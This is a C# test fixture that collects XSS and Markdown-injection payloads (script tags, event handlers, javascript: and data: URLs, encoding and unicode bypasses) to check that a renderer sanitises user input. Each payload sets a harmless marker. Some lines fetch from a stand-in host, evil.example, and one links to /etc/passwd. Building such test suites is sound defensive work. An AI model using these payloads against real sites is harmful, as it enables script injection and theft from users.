namespace InfoStory.JourneyTests.Browsing;

/// <summary>Markdown of every kind that can be typed here and has run a script, or had something fetched, in a page somewhere.</summary>
public static class HostileMarkdown
{
    /// <summary>What each of them would do if it could, which the test looks for.</summary>
    private const string Act = "window.__ran=1";

    public static IReadOnlyList<string> All { get; } = [.. Html().Concat(Links()).Concat(Pictures()).Concat(Structures()).Distinct(StringComparer.Ordinal)];

    private static IEnumerable<string> Html() => With(
    [
        "<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>{0}</scr</script>ipt>",
        "<img src=x onerror={0}>", "<img src=x\tonerror\n=\n\"{0}\">", "<img/src=x/onerror={0}>", "<svg onload={0}>", "<svg/onload={0}//",
        "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:{0}\"><text>x</text></a></svg>",
        "<math><mtext></p><style><img src onerror={0}>", "<math href=\"javascript:{0}\">x</math>", "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
        "<iframe src=\"javascript:{0}\"></iframe>", "<object data=\"data:text/html,<script>{0}</script>\"></object>", "<embed src=\"javascript:{0}\">",
        "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<video src=x onerror={0}></video>", "<audio src onerror={0}>",
        "<body onload={0}>", "<marquee onstart={0}>x</marquee>", "<form action=\"javascript:{0}\"><button>x</button></form>",
        "<button formaction=\"javascript:{0}\">x</button>", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
        "<p style=\"background:url(//evil.example/p)\">x</p>",
        "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<plaintext><script>{0}</script>",
        "</main></body><script>{0}</script>", "</textarea><script>{0}</script>", "</title><script>{0}</script>", "\"><script>{0}</script>",
        "<!--><img src=x onerror={0}>-->", "<!-- --!><script>{0}</script> -->", "<![CDATA[<script>{0}</script>]]>",
        "<?xml-stylesheet href=\"javascript:{0}\"?>",
        "<x onclick={0} tabindex=1 autofocus onfocus={0}>x</x>", "<a href=\"javascript:{0}\">x</a>", "<a href=\"&#106;avascript:{0}\">x</a>",
        "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "&amp;lt;img src=x onerror={0}&amp;gt;", "\\<script>{0}\\</script>",
        "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "<\u200bscript>{0}</script>", "<script\u00a0>{0}</script>",
        "<dialog open onclose={0}>x</dialog>", "<div popover id=p onbeforetoggle={0}>x</div>", "<portal src=//evil.example></portal>",
    ]);

    private static IEnumerable<string> Links()
    {
        string[] addresses =
        [
            "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java&#10;script:{0}", "java&Tab;script:{0}", "&#106;avascript:{0}", "&#x6A;avascript:{0}",
            "javascript&colon;{0}", "javascript%3A{0}", " javascript:{0}", "\u00a0javascript:{0}", "vbscript:{0}", "livescript:{0}",
            "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={0}>",
            "blob:https://evil.example/1", "file:///etc/passwd", "//evil.example/", "view-source:javascript:{0}", "feed:javascript:{0}", "jar:javascript:{0}!/",
            "https://ok.example/\" onmouseover=\"{0}", "https://ok.example/'onfocus='{0}", "https://ok.example/><script>{0}</script>",
            "http:javascript:{0}", "https:\\\\evil.example", "javascript://ok.example/%0a{0}", "javascript:/*--></title></style></script><svg onload={0}>",
        ];
        return With(addresses.SelectMany(address => (string[])[$"[press]({address})", $"[press](<{address}> \"'><img src=x onerror={{0}}>\")"])
            .Concat(["<javascript:{0}>", "<https://ok.example/\"onclick=\"{0}>", "[a]: javascript:{0}\n\n[a]", "[b][c]\n\n[c]: data:text/html,{0} 'x'"]));
    }

    private static IEnumerable<string> Pictures() => With(
    [
        "![x](https://evil.example/p.png)", "![x](javascript:{0})", "![\"onerror={0}](x)", "![x](x \"onerror={0}\")",
        "[![x](https://evil.example/q.png)](javascript:{0})",
        "![[x](javascript:{0})](y)", "![x][p]\n\n[p]: https://evil.example/r.png", "![](data:image/svg+xml,<svg/onload={0}>)",
        "![![x](y)](https://evil.example/s.png)",
    ]);

    private static IEnumerable<string> Structures() => With(
    [
        "# <img src=x onerror={0}>", "## [x](javascript:{0})", "> <script>{0}</script>", "- <svg onload={0}>", "1. [x](javascript:{0})",
        "| a | <script>{0}</script> |\n|---|---|\n| [x](javascript:{0}) | b |", "Note.[^1]\n\n[^1]: <img src=x onerror={0}>",
        "```html\n<script>{0}</script>\n```",
        "    <script>{0}</script>", "`<script>{0}</script>`", "~~~ \"onmouseover={0}\nx\n~~~", "x { onclick=\"{0}\" .a #b }", "# x {#id onclick={0}}",
        "*[<svg onload={0}>]: x",
        "**<b onmouseover={0}>x</b>**", "_[x](javascript:{0})_", "$$<script>{0}</script>$$", "\\[x\\](javascript:{0})", "[x](javascript:{0}",
        "[[x](javascript:{0})]",
        "---\ntitle: <script>{0}</script>\n---", "<https://ok.example>\n<script>{0}</script>", ":::x\n<script>{0}</script>\n:::", "^^<img src=x onerror={0}>^^",
    ]);

    private static IEnumerable<string> With(IEnumerable<string> frames) => frames.Select(frame => frame.Replace("{0}", Act, StringComparison.Ordinal));
}
